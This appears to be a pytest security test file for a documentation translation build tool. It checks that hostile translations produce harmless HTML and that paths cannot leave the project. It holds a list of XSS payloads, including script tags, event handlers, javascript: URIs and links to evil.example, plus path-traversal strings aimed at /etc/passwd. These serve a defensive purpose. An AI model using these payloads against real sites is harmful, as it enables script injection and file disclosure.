"""Words from strangers: nothing that they hold runs, leads out of the project or hangs."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import polib
import pytest

from adaptkit.model.diagnostic import ProblemsFound
from adaptkit.workspace import Workspace
from tests.scenarios.projects import TODAY, Project, small

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><animate onbegin=alert(1)>',
    "<a href=\"javascript:alert(1)\" onmouseover='alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<b style="background:url(https://evil.example/t.png)">x</b>',
    "<!-- --><script>alert(1)</script><!-- -->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></main></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](../../../../../../etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "[x](../../locales/overlays/MX/overlay.yaml)",
    "[x](../locales/es/guide.po)",
    "[x](../secret.txt)",
    "`</code><script>alert(1)</script>`",
    "<script",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "{{ 7*7 }} {% include '/etc/passwd' %} {helpline.__class__}",
    "\u202etxet desrever\u202c",
)
SCHEMES = ("javascript:", "vbscript:", "data:")


class Page(HTMLParser):
    """What a browser would act on."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.wrong: list[str] = []
        self._in_script = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A block of data is nothing that a browser runs.
        self._in_script = tag == "script" and ("type", "application/json") not in attrs
        if tag in ("iframe", "object", "embed", "form", "base", "animate", "math", "frame"):
            self.wrong.append(tag)
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", value or "").lower()
            loads = (
                name not in ("alt", "title", "content", "data-label") and "evil.example" in plain
            )
            if name.startswith("on") or name == "srcdoc" or loads:
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "xlink:href") and plain.startswith(SCHEMES):
                image = tag in ("img", "link") and plain.startswith("data:image/")
                self.wrong += [] if image else [f"{tag} {name}={value}"]
            if name == "http-equiv" and plain == "refresh":
                self.wrong.append("refresh")

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = self._in_script and tag != "script"


def built(project: Project, to: Path, name: str = "es_MX") -> Iterator[tuple[str, str]]:
    ran = project.run("build", name, "--to", str(to), "--today", TODAY)
    assert ran.code in (0, 1)
    assert (to / name / "html").is_dir(), ran.err
    for path in sorted((to / name).rglob("*")):
        if path.is_file():
            assert b"top secret" not in path.read_bytes(), path
            assert b"root:" not in path.read_bytes(), path
            if path.suffix == ".html":
                yield path.name, path.read_text("utf-8")


def assert_harmless(project: Project, to: Path, own: set[str], name: str = "es_MX") -> None:
    """``own``: the scripts that the pages have of themselves."""
    found = dict(built(project, to, name))
    assert found
    for path, text in found.items():
        page = Page(text)
        assert page.wrong == [], path
        assert set(page.scripts) <= own, path
        assert "alert(1)" not in "".join(page.scripts)


@pytest.fixture(autouse=True)
def unchecked(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is shown must be harmless whatever the checks of translations let pass."""
    monkeypatch.setattr("adaptkit.editions.translate.run_checks", lambda *_, **__: ())


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Project:
    project = small(tmp_path_factory.mktemp("hostile") / "guide")
    project.write("secret.txt", "top secret")
    project.write(
        "source_guide/03-raw.md",
        "---\ntitle: Raw\ndescription: About it.\n---\n# Raw\n\n<div>\nSome <b>words</b> of HTML.\n"
        "</div>\n\n| a head | a cell |\n| --- | --- |\n| one thing | two things |\n\n"
        'A [link](01-plan.md "Its title") and a ![picture](images/steps.svg "Its name").\n',
    )
    project.change("source_guide/guide.yaml", "  - 02-home.md\n", "  - 02-home.md\n  - 03-raw.md\n")
    project.done("update", "--today", TODAY)
    return project


@pytest.fixture(scope="module")
def own(whole: Project, tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    to = tmp_path_factory.mktemp("own") / "out"
    return {script for _, text in built(whole, to) for script in Page(text).scripts}


@pytest.fixture
def project(whole: Project, tmp_path: Path) -> Project:
    return whole.copy(tmp_path / "guide")


@pytest.mark.parametrize("form", ["alone", "behind", "in place", "everything"])
def test_hostile_translations(form: str, project: Project, own: set[str], tmp_path: Path) -> None:
    path = project.path("locales/es/guide.po")
    # One catalogue for all units would hide what one payload does to the next: turn by turn.
    for turn in range(0, len(PAYLOADS), 1 if form == "everything" else 12):
        catalogue = polib.pofile(str(path), wrapwidth=0)
        for number, entry in enumerate(e for e in catalogue if not e.obsolete):
            payload = PAYLOADS[(turn + number) % len(PAYLOADS)]
            head, link, tail = entry.msgid.partition("](")
            entry.msgstr = {
                "alone": payload,
                "behind": f"{entry.msgid} {payload}",
                "in place": f"{head} {payload} {link}{tail}",
                "everything": " ".join(PAYLOADS),
            }[form]
        catalogue.save()
        assert project.run("update", "--today", TODAY).code in (0, 1)
        assert_harmless(project, tmp_path / f"out{turn}", own)
        if form == "everything":
            break


def test_hostile_overlay_texts(project: Project, own: set[str], tmp_path: Path) -> None:
    """An overlay's texts come from further away than the guide: links and pictures too."""
    risky = [p for p in PAYLOADS if not p.startswith("<") or "script" not in p.lower()]
    text = "\n\n".join(p for p in risky if p[0] in "[!{\u202e`")
    project.write("locales/overlays/MX/blocks/help.md", f"Ayuda.\n\n{text}\n")
    for name, page in built(project, tmp_path / "out"):
        found = Page(page)
        wrong = [w for w in found.wrong if "evil.example" not in w]
        assert wrong == [], name
        assert set(found.scripts) <= own
    del own


@pytest.mark.parametrize(
    "name",
    ["../../../../etc/passwd", "/etc/passwd", "../../../secret.txt", "blocks/../../../x.md", "x"],
)
def test_an_overlay_s_text_from_elsewhere(name: str, project: Project) -> None:
    project.change("locales/overlays/MX/overlay.yaml", "blocks/help.md", name)
    before = project.tree()
    for command in ("update", "build", "status"):
        ran = project.run(command)
        assert ran.code == 1
        assert re.search(r"overlay.yaml:\d+:\d+: error: ", ran.err)
        assert "top secret" not in ran.err + ran.out
    assert project.tree() == before


def test_an_edition_whose_name_leads_out(project: Project, tmp_path: Path) -> None:
    project.write("locales/editions/...yaml", 'edition: ".."\nlanguage: es\n')
    before = project.tree()
    ran = project.run("build", "--to", str(tmp_path / "out" / "pages"))
    assert ran.code == 1
    assert "would be written outside the output folder" in ran.err
    assert not (tmp_path / "out").exists()
    assert project.tree() == before


@pytest.mark.parametrize("path", ["/passwd", "/etc/passwd", "../x", "a/../../x", "..", "//x"])
def test_a_path_that_leads_out_of_the_project(project: Project, path: str) -> None:
    workspace = Workspace.at(project.root)
    with pytest.raises(ProblemsFound, match="leads out of the project"):
        workspace.inside(path)
    with pytest.raises(ProblemsFound, match="leads out of the project"):
        workspace.write({path: b""})


def test_an_overlay_s_text_that_is_a_link(project: Project) -> None:
    path = project.path("locales/overlays/MX/blocks/help.md")
    path.unlink()
    path.symlink_to("/etc/passwd")
    ran = project.run("build")
    assert ran.code == 1
    assert "leads out of the project" in ran.err


@pytest.mark.parametrize(
    "target",
    [
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "%2e%2e/%2e%2e/secret.txt",
        "../secret.txt",
        "..\\..\\secret.txt",
        "file:///etc/passwd",
        "images/../../secret.txt",
        "../locales/es/guide.po",
    ],
)
def test_the_guide_shows_a_picture_from_elsewhere(
    target: str, project: Project, tmp_path: Path
) -> None:
    project.change("source_guide/01-plan.md", "images/steps.svg", target)
    outside = {path: path.read_bytes() for path in project.root.iterdir() if path.is_file()}
    pages = dict(built(project, tmp_path / "out"))
    assert "A path with three steps." in pages["01-plan.html"]
    files = {path.name for path in (tmp_path / "out").rglob("*") if path.is_file()}
    assert not files & {"passwd", "secret.txt", "guide.po"}
    assert {path: path.read_bytes() for path in outside} == outside
    assert {path.name for path in tmp_path.iterdir()} == {"guide", "out"}


@pytest.mark.parametrize(
    "text",
    [
        ">" * 1000 + " deep\n",
        "> " * 1000 + "deep\n",
        "[" * 1000 + "\n",
        "[" * 1000 + "a" + "](b)" * 1000 + "\n",
        "![" * 1000 + "\n",
        "*a " * 1000 + "\n",
        "<" * 1000 + "\n",
        "<b>" * 1000 + "deep\n",
        "`" * 1001 + "\n" + "`" * 1000 + "\n",
        "- " * 500 + "deep\n",
        "{" * 1000 + "}" * 1000 + "\n",
        "::: note\n" * 200 + "deep\n" + ":::\n" * 200,
        "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n",
        "&" * 1000 + "\n",
        "[^" * 1000 + "\n",
    ],
    ids=range(15),
)
def test_nesting_without_end(text: str, project: Project, tmp_path: Path) -> None:
    """No hang and no crash, in the guide and as a translation; refused in words, or built."""
    started = time.process_time()
    project.write("source_guide/02-home.md", f"# At home\n\n{text}")
    ran = project.run("update", "--today", TODAY)
    assert ran.code in (0, 1)
    if ran.code == 0:
        ran = project.run("build", "es_MX", "--to", str(tmp_path / "out"), "--format", "html")
        assert ran.code in (0, 1)
        assert project.run("update", "--check").code == 0
    assert time.process_time() - started < 20  # of the processor: a busy machine fails nothing


@pytest.mark.parametrize("opening", ["> ", "- ", "::: note\n"])
def test_words_within_more_blocks_than_anybody_means(opening: str, project: Project) -> None:
    """No reader would get them: told with the line, and nothing is written."""
    project.write("source_guide/02-home.md", f"# At home\n\n{opening * 12}words\n")
    ran = project.run("update", "--today", TODAY)
    assert "nested-too-deep" not in ran.out + ran.err
    project.write("source_guide/02-home.md", f"# At home\n\n{opening * 60}words\n")
    ran = project.run("update", "--today", TODAY)
    line = 53 if "\n" in opening else 3
    assert ran.code == 1
    assert f"source_guide/02-home.md:{line}:" in ran.err
    assert "nested deeper than 50 levels" in " ".join(ran.err.split())


def test_a_paragraph_of_a_megabyte(project: Project, tmp_path: Path) -> None:
    words = "Rest before you are tired, and do not wait for tomorrow. "
    project.write("source_guide/02-home.md", "# At home\n\n" + words * (1_000_000 // len(words)))
    project.done("update", "--today", TODAY)
    project.done("build", "es_MX", "--to", str(tmp_path / "out"), "--format", "html")
    pages = list((tmp_path / "out").rglob("02-home.html"))
    assert pages
    assert all(page.stat().st_size > 1_000_000 for page in pages)
